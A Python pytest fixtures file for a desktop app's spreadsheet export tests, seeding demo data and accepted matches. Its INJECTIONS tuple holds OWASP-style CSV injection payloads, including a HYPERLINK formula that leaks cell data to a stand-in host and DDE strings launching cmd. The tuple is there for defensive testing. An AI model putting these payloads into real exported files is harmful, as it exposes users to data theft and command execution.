"""Fixtures of the export tests: the demo data with accepted matches and hostile values."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from sqlalchemy import select

from desktop_app.core.database.session import Database
from desktop_app.core.domain.enums import MatchStatus, Verdict
from desktop_app.core.domain.models import Buyer, DemandLine, MatchCandidate, Product
from desktop_app.core.services.demo import load_demo_data

# Demand text an attacker could send in a buyer's file (OWASP CSV injection examples).
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DECIDED = datetime(2026, 11, 2, 10, 30, tzinfo=UTC)


def add_accepted_matches(database: Database, injections: bool = True) -> int:
    """Accept one product for each demand line; the first lines carry injection strings."""
    with database.session(actor="reviewer") as session:
        demand = session.scalars(select(DemandLine).order_by(DemandLine.id)).all()
        products = session.scalars(select(Product).order_by(Product.id)).all()
        if injections:
            for line, text in zip(demand, INJECTIONS, strict=False):
                line.product_text = text
        for number, line in enumerate(demand):
            session.add(
                MatchCandidate(
                    demand_line=line,
                    product=products[number % len(products)],
                    score=60.0 + number,
                    verdict=Verdict.SUGGESTED,
                    status=MatchStatus.ACCEPTED if number % 5 else MatchStatus.REJECTED,
                    reviewer="Анна Петрова",
                    decided_at=DECIDED,
                    parts={},
                    evidence={},
                )
            )
        accepted = sum(1 for number in range(len(demand)) if number % 5)
    return accepted


@pytest.fixture
def demo_sqlite(sqlite_database: Database) -> Database:
    """The demo data on SQLite only, for the tests that check the file rather than SQL."""
    with sqlite_database.session(actor="test") as session:
        load_demo_data(session)
    return sqlite_database


@pytest.fixture
def matched_sqlite(demo_sqlite: Database) -> Database:
    """The demo data with accepted matches (and injection strings) on SQLite."""
    add_accepted_matches(demo_sqlite)
    return demo_sqlite


@pytest.fixture
def buyer_names(matched_sqlite: Database) -> list[str]:
    """The demo buyers' Chinese names, in id order."""
    with matched_sqlite.session() as session:
        return [name or "" for name in session.scalars(select(Buyer.name_zh).order_by(Buyer.id))]


def read_xlsx(path: Path) -> Workbook:
    """The exported workbook, loaded fully (not read-only) so formats can be inspected."""
    return load_workbook(path)
